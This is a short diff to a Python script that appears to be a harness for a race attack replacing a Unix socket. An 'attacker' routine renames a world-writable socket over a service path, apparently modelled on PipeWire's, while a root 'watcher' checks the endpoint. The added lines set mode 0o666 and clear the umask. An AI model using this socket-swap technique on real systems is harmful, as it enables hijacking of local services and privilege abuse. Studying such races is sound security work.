@@ -67,6 +67,8 @@ def swap(source: str, link: str) -> str:
     os.rename(new, source)
     time.sleep(LINK)
     with socket.socket(socket.AF_UNIX) as own:
+        # Born with the mode (unix(7)) that systemd gives to PipeWire's.
+        os.fchmod(own.fileno(), 0o666)
         own.bind(new)
         own.listen()
         os.rename(new, source)
@@ -94,6 +96,7 @@ def look(endpoint: str, secret: os.stat_result) -> str:
 def main(owner: str, source: str, link: str, endpoint: str, *rest: str) -> None:
     seconds, *command = rest
     secret = os.stat(link)
+    os.umask(0)
     attacker = start(owner, lambda: swap(source, link))
     watcher = start("root", lambda: look(endpoint, secret))
     deadline = time.monotonic() + float(seconds)
